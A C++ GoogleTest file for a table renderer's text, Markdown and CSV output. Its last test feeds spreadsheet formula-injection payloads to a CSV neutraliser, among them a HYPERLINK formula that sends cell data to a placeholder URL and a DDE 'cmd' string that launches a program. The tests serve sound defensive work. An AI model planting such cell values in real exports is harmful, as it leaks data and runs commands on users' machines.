#include "render/table.h"

#include <gtest/gtest.h>

namespace followup::render {
namespace {

const Table k_table{"Title", {"ref", "unit"}, {{"PLACMI-2#1", "MRF-BA"}, {"X#10", "São Paulo, a|b"}}};

TEST(Table, TextAlignsByCharactersNotBytes) {
  EXPECT_EQ(table_text(k_table),
            "Title\n"
            "ref         unit\n"
            "PLACMI-2#1  MRF-BA\n"
            "X#10        São Paulo, a|b\n");
  EXPECT_EQ(table_text(Table{"", {"a"}, {}}), "a\n(none)\n");
}

TEST(Table, MarkdownEscapesPipes) {
  EXPECT_EQ(table_markdown(k_table),
            "### Title\n\n| ref | unit |\n|---|---|\n| PLACMI-2#1 | MRF-BA |\n| X#10 | São Paulo, a\\|b |\n");
}

TEST(Table, CsvQuotesOnlyWhenNeeded) {
  EXPECT_EQ(table_csv(k_table), "ref,unit\r\nPLACMI-2#1,MRF-BA\r\nX#10,\"São Paulo, a|b\"\r\n");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
}

TEST(Table, CsvNeutralisesWhatASpreadsheetWouldRun) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"=HYPERLINK(\"http://x?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x?x=\"\"&A1,\"\"click\"\")\""},
      {"@SUM(1+1)", "\"'@SUM(1+1)\""},
      {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
      {"-2+3", "\"'-2+3\""},
      {"\t=1", "\"'\t=1\""},
      {"\r=1", "\"'\r=1\""},
      {"  =1", "\"'  =1\""},
      {"\n@x", "\"'\n@x\""},
      {"＝1+1", "\"'＝1+1\""},
      {"＠SUM", "\"'＠SUM\""},
      {"＋1", "\"'＋1\""},
      {"－1", "\"'－1\""},
      {"-", "\"'-\""},
  };
  for (const auto& [cell, expected] : cases) {
    EXPECT_TRUE(csv_formula_like(cell)) << cell;
    EXPECT_EQ(csv_field(cell), expected) << cell;
  }
  for (std::string_view plain : {"", "a=1", "2001-08-31", "PLACMI-2#1", "  ", "x-y", "Ａ"}) {
    EXPECT_FALSE(csv_formula_like(plain)) << plain;
    EXPECT_EQ(csv_field(plain), plain);
  }
  EXPECT_EQ(table_csv(Table{"", {"=a"}, {{"@b"}}}), "\"'=a\"\r\n\"'@b\"\r\n");
}

}  // namespace
}  // namespace followup::render
